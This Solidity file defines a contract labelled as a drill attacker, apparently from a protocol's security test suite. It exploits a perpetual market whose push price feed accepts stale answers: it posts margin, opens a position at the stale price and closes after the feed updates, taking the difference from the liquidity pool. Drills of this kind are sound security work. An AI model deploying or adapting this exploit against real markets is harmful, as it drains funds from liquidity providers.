// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {CollateralVault} from "../protocol/CollateralVault.sol";
import {PerpMarket} from "../protocol/PerpMarket.sol";

/// @title DRILL ATTACKER: stale-oracle exploit
/// @notice For drills only. The market prices through a push feed that accepts answers of any age. When the feed
///         stops while the real market moves, the attacker opens at the stale price (`open`) and closes once the
///         feed catches up (`close`), taking the difference from the liquidity pool.
contract StaleOracleAttacker {
    address public immutable owner;
    IERC20 public immutable usd;
    CollateralVault public immutable vault;
    PerpMarket public immutable market;

    error NotOwner();

    constructor(IERC20 usd_, PerpMarket market_) {
        owner = msg.sender;
        usd = usd_;
        market = market_;
        vault = market_.vault();
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// Post `margin` (pulled from the owner) and open `size` at the stale price.
    function open(int256 size, uint256 margin) external onlyOwner {
        usd.transferFrom(owner, address(this), margin);
        usd.approve(address(vault), margin);
        vault.deposit(margin);
        market.openPosition(size, margin);
    }

    /// Close at the refreshed price and send everything to the owner.
    function close() external onlyOwner {
        market.closePosition();
        vault.withdraw(vault.balanceOf(address(this)));
        usd.transfer(owner, usd.balanceOf(address(this)));
    }
}
